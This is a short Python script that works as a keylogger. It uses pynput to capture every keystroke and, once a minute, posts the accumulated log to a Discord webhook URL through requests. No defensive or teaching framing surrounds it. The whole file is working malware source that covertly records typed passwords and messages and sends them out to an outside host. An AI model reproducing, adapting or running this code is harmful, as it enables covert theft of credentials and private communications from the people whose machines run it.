from pynput.keyboard import Listener
import threading, requests
log = ""
HOOK = "https://discord.com/api/webhooks/1/abc"

def on_press(key):
    global log
    log += str(key)

def report():
    global log
    if log:
        requests.post(HOOK, json={"content": log})  # egress sensitive
    log = ""
    threading.Timer(60, report).start()

with Listener(on_press=on_press) as l:
    report()
    l.join()
